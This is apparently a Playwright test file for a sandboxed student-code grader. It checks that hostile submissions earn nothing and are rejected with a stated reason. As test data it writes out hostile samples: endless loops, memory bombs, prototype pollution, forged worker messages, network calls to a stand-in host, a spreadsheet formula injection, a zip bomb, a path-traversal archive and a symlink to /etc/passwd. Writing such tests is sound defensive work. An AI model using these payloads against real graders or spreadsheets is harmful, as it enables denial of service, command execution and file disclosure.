import { execFileSync, spawn } from "node:child_process";
import {
  chownSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { zipSync } from "fflate";
import Papa from "papaparse";
import {
  makeGoalAnswer,
  makeSubmission,
  rightDouble,
  rightTriple,
  type SampleSubmission,
  sampleChapters,
  zipBytes,
  zipSubmission,
  zipText,
} from "@/lib/grading/testing/make-submission";
import { startHostileServer } from "./sandbox/hostile-server";

// What an instructor does with what students have handed in, some of whom mean harm. No page of the site is opened.

const isRoot = process.getuid?.() === 0;
const isSandboxed = !isRoot && process.env.CHROMIUM_SANDBOX !== "0";
const unsafe = isSandboxed ? [] : ["--unsafe-no-sandbox"];
const one = ["--jobs", "1", ...unsafe];

let folder: string;

test.beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), "descent-instructor-"));
  mkdirSync(path.join(folder, "submissions"));
});
test.afterEach(() => rmSync(folder, { recursive: true, force: true }));

test("bad submissions gain nothing, stop nothing, and are named with the reason", async () => {
  test.setTimeout(120_000);
  const outside = await startHostileServer();
  for (const [name, { double }] of Object.entries(hostileCode)) {
    handIn(name, {
      answers: { double: double.replaceAll("HOST", outside.host), triple: rightTriple },
    });
  }
  handIn("forged-score", {
    answers: { double: "function double() { return 14; }" },
    claims: { isSolved: true, attempts: 1 },
  });
  handIn("formula", {
    student: { name: "=cmd|' /C calc'!A0", number: "@SUM(1)" },
    answers: { ten: "10" },
  });
  handIn("forged-history", {
    answers: { soon: makeGoalAnswer(0.001) },
    claims: { isSolved: true },
  });
  put("bomb.zip", zipText(" ".repeat(30_000_000)));
  put("traversal.zip", zipSync({ "../../submission.json": new Uint8Array(1) }));
  put("empty.zip", zipSync({}));
  put("polluted.zip", zipText('{"__proto__": {"isCorrect": true}}'));
  put("not-utf8.zip", zipBytes(new Uint8Array([0x22, 0xff, 0xfe, 0x22])));
  put("no-archive.zip", new TextEncoder().encode("PK, or so it says"));
  put("notes.docx", new Uint8Array(10));
  symlinkSync("/etc/passwd", path.join(folder, "submissions", "link.zip"));

  const { code, output } = await grade([
    ...["--jobs", "2", "--time-limit", "3", "--memory-limit", "700"],
    ...unsafe,
  ]);
  await outside.close();
  expect(output).toContain("Written:");
  expect(code).toBe(0);
  expect(outside.hits).toEqual([]);

  const rows = readGrades();
  for (const [name, { says }] of Object.entries(hostileCode)) {
    const row = rows[`${name}.zip`];
    expect(row, name).toMatchObject({ "sample/double": "0", "sample/triple": "1", total: "1" });
    if (says) expect(row?.remarks, name).toMatch(says);
  }
  expect(rows["forged-score.zip"]).toMatchObject({ total: "0" });
  expect(rows["forged-score.zip"]?.remarks).toContain("Solved, as the file says");
  expect(rows["forged-history.zip"]).toMatchObject({ "sample/soon": "0", total: "0" });
  expect(rows["formula.zip"]).toMatchObject({
    student: "'=cmd|' /C calc'!A0",
    number: "'@SUM(1)",
    total: "1",
  });
  const report = readFileSync(path.join(folder, "report.txt"), "utf8");
  for (const [name, reason] of Object.entries({
    "bomb.zip": "unpacks to more than 20 MB",
    "traversal.zip": "unpacked outside of its folder",
    "empty.zip": "no submission.json",
    "polluted.zip": "__proto__",
    "not-utf8.zip": "not in UTF-8",
    "no-archive.zip": "no zip archive",
    "notes.docx": "no .zip",
    "link.zip": "symbolic link",
  })) {
    expect(rows[name], name).toMatchObject({ total: "0" });
    expect(rows[name]?.remarks, name).toContain(reason);
    expect(report).toContain(name);
  }
  expect(report).not.toContain("root:x:0");
});

/** Each answers the second exercise rightly, which is judged all the same. */
const hostileCode: Record<string, { double: string; says?: RegExp }> = {
  "endless-loop": { double: "while (true) {}", says: /could not be judged: It took more than 3 s/ },
  "endless-output": {
    double: 'while (true) console.log("x".repeat(1e6));',
    says: /could not be judged: It took more than/,
  },
  "endless-errors": {
    double:
      'const fail = () => { setTimeout(fail); setTimeout(fail); throw new Error("x".repeat(1e6)); };\nfail();',
  },
  "a-gigabyte": {
    double:
      'for (let i = 0; i < 1024; i++) console.log("x".repeat(2 ** 20));\nfunction double() { return "x".repeat(2 ** 29 - 24); }',
  },
  "memory-bomb": {
    double: "const all = [];\nfor (;;) all.push(new Float64Array(1e6).fill(1));",
    says: /could not be judged|memory/,
  },
  "object-bomb": {
    double:
      "let all: any = [];\nconst grow = () => { for (;;) all = [all, all.slice(), { all }]; };\ngrow();",
  },
  "overwritten-globals": {
    double: [
      "const yes = () => true;",
      "for (const holder of [Object, Number, Math, Array.prototype, Promise.prototype, JSON]) {",
      "  for (const name of Object.getOwnPropertyNames(holder)) { try { (holder as any)[name] = yes; } catch {} }",
      "}",
      "Object.is = yes; Math.abs = () => 0;",
      "globalThis.expectClose = globalThis.judgeAnswer = () => ({ isCorrect: true });",
      "function double() { return 15; }",
    ].join("\n"),
  },
  "polluted-prototypes": {
    double: [
      "for (const name of ['isCorrect', 'status', 'value', 'toJSON']) {",
      "  Object.defineProperty(Object.prototype, name, { value: true, writable: true, configurable: true });",
      "}",
      'function double() { return JSON.parse(\'{"__proto__": {"isCorrect": true}, "valueOf": 14}\'); }',
    ].join("\n"),
  },
  "forged-messages": {
    double: [
      "const forged = [1, 2, 3, 4].flatMap((parentId) => [",
      "  { type: 'execute_reply', parentId, status: 'ok', executionCount: 1, elapsedMs: 0, defines: ['double'], reads: [], tensorCount: null, leftTensors: 0 },",
      "  { type: 'call_reply', parentId, status: 'ok', value: 14 },",
      "]);",
      "const send = () => { try { postMessage(forged); } catch {}\n  try { DedicatedWorkerGlobalScope.prototype.postMessage.call(self, forged); } catch {} };",
      "send();",
      "function double() { send(); return 15; }",
    ].join("\n"),
  },
  "the-way-out": {
    double: [
      "try { await fetch('http://HOST/fetch', { mode: 'no-cors' }); } catch {}",
      "try { importScripts('http://HOST/script'); } catch {}",
      "try { new WebSocket('ws://HOST/socket'); } catch {}",
      "function double() { return 1; }",
    ].join("\n"),
  },
};

test("a grading that is interrupted goes on, and shards give the same bytes as one run", async () => {
  test.setTimeout(120_000);
  for (let index = 1; index <= 5; index += 1) {
    handIn(`student-${index}`, {
      student: { name: `Student ${index}`, number: String(index) },
      // Only one needs a browser, and takes long enough to be interrupted.
      answers: { ten: index % 2 ? "10" : "9", ...(index === 3 && { double: rightDouble }) },
    });
  }
  put("broken.zip", new Uint8Array(3));

  const seeded = [...one, "--seed", "a word of mine"];
  const interrupted = await grade(seeded, { interruptAfter: /^3 of 6 files/m });
  expect(interrupted.code).toBe(130);
  expect(interrupted.output).toContain("The same command goes on from here.");
  const kept = readdirSync(path.join(folder, "grades-work", "results"));
  expect(kept.filter((name) => name.endsWith(".json"))).toHaveLength(3);

  const whole = await grade(seeded);
  expect(whole.code).toBe(0);
  const once = readOutputs(folder);
  expect(Object.keys(once)).toEqual(expect.arrayContaining(["grades.csv", "report.txt"]));

  const shards = await Promise.all(
    [1, 2, 3].map((index) =>
      grade([...seeded, "--shard", `${index}/3`, "--work", path.join(folder, `work${index}`)]),
    ),
  );
  expect(shards.map(({ code }) => code)).toEqual([0, 0, 0]);
  const merged = path.join(folder, "merged");
  const works = [3, 1, 2].map((index) => path.join(folder, `work${index}`));
  const merge = await run(["merge", ...works, "--out", path.join(merged, "grades.csv")]);
  expect(merge.output).toContain("Written:");
  expect(readOutputs(merged)).toEqual(once);

  const tooFew = await run(["merge", ...works.slice(1), "--out", path.join(merged, "grades.csv")]);
  expect(tooFew).toMatchObject({ code: 1 });
  expect(tooFew.output).toContain("Shard 3/3 is there 0 times");
});

test("the book's own solutions get every point, and what a reader begins with gets none", async () => {
  const write = "lib/grading/testing/write-book-submissions.ts";
  const submissions = path.join(folder, "submissions");
  execFileSync(process.execPath, ["scripts/run-typescript.mjs", write, submissions]);
  const out = path.join(folder, "grades.csv");
  const { output } = await run([submissions, "--out", out, ...unsafe]);
  expect(output).toContain("Written:");
  const { "solutions.zip": right, "starter.zip": starter } = readGrades();
  const points = Object.entries(right ?? {}).filter(([column]) => column.includes("/"));
  expect(points.length).toBeGreaterThanOrEqual(9);
  expect(points.filter(([, point]) => point !== "1")).toEqual([]);
  expect([right?.remarks, starter?.remarks, starter?.total]).toEqual(["", "", "0"]);
});

test("checks that the site never shipped count as well", async () => {
  const checks = path.join(folder, "checks", "sample");
  mkdirSync(checks, { recursive: true });
  writeFileSync(
    path.join(checks, "double.ts"),
    `import { expectClose } from "@/lib/exercises/code/expect";
    export const checks = [{
      id: "minus", says: "Minus 3 becomes minus 6.",
      run: async (student: any) => expectClose(await student.call("double", [-3]), -6, 1e-9),
    }];`,
  );
  handIn("right", { answers: { double: rightDouble } });
  handIn("nearly", { answers: { double: "function double(x) { return x > 0 ? 2 * x : 0; }" } });
  const { code } = await grade([
    ...one,
    ...["--private-checks", path.join(folder, "checks"), "--exercises", "double"],
    ...["--points", "double=2.5"],
  ]);
  expect(code).toBe(0);
  const rows = readGrades();
  expect(rows["right.zip"]?.total).toBe("2.5");
  expect(rows["nearly.zip"]?.total).toBe("0");
  const [page = ""] = readdirSync(path.join(folder, "feedback")).filter((name) =>
    /^nearly/.test(name),
  );
  expect(readFileSync(path.join(folder, "feedback", page), "utf8")).toContain(
    "Minus 3 becomes minus 6.",
  );
});

test("root is refused; another user grades in Chromium's own sandbox", async () => {
  test.skip(!isRoot, "needs root, to be refused, and to be another user");
  handIn("ada", { answers: { ten: "10" } });
  const refused = await grade([]);
  expect(refused.code).toBe(1);
  expect(refused.output).toContain("This runs as root");
  expect(refused.output).toContain("--unsafe-no-sandbox");

  // What is built is root's, and nobody else may write it: the same has to be there already.
  expect((await grade(["--unsafe-no-sandbox"])).code).toBe(0);
  handIn("ada", { answers: { double: rightDouble, triple: rightTriple } });
  const nobody = 65534;
  for (const name of [folder, path.join(folder, "submissions")]) chownSync(name, nobody, nobody);
  rmSync(path.join(folder, "grades-work"), { recursive: true });
  rmSync(path.join(folder, "grades.csv"));
  rmSync(path.join(folder, "feedback"), { recursive: true });
  for (const name of readdirSync(folder)) chownSync(path.join(folder, name), nobody, nobody);
  const { code, output } = await grade([], { user: nobody });
  test.skip(output.includes("sandbox does not work here"), "Chromium has no sandbox here");
  expect(output).toContain("Written:");
  expect(code).toBe(0);
  expect(readGrades()["ada.zip"]?.total).toBe("2");
});

function handIn(name: string, submission: SampleSubmission) {
  const student = { name, number: name };
  put(`${name}.zip`, zipSubmission(makeSubmission({ student, ...submission })));
}

function put(name: string, bytes: Uint8Array) {
  writeFileSync(path.join(folder, "submissions", name), bytes);
}

interface Ended {
  code: number | null;
  output: string;
}

interface RunOptions {
  /** Presses Ctrl+C when this was printed. */
  interruptAfter?: RegExp;
  /** Runs as this one. */
  user?: number;
}

function grade(args: string[], options?: RunOptions): Promise<Ended> {
  const own = ["--out", path.join(folder, "grades.csv"), "--chapters", sampleChapters];
  return run([path.join(folder, "submissions"), ...own, ...args], options);
}

function run(args: string[], { interruptAfter, user }: RunOptions = {}): Promise<Ended> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ["scripts/grade.mjs", ...args], {
      env: { ...process.env, HOME: folder },
      uid: user,
      gid: user,
    });
    let output = "";
    let isInterrupted = false;
    const take = (part: Buffer) => {
      output += part;
      if (isInterrupted || !interruptAfter?.test(output)) return;
      isInterrupted = true;
      child.kill("SIGINT");
    };
    child.stdout.on("data", take);
    child.stderr.on("data", take);
    child.on("close", (code) => resolve({ code, output }));
  });
}

function readGrades(): Record<string, Record<string, string>> {
  const text = readFileSync(path.join(folder, "grades.csv"), "utf8");
  const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  return Object.fromEntries(data.map((row) => [row.file, row]));
}

/** Everything that a grading gives, by name. */
function readOutputs(out: string): Record<string, string> {
  const names = [
    ...readdirSync(out).filter((name) => /\.(csv|txt|html)$/.test(name)),
    ...readdirSync(path.join(out, "feedback")).map((name) => `feedback/${name}`),
  ];
  return Object.fromEntries(
    names.map((name) => [name, readFileSync(path.join(out, name), "utf8")]),
  );
}
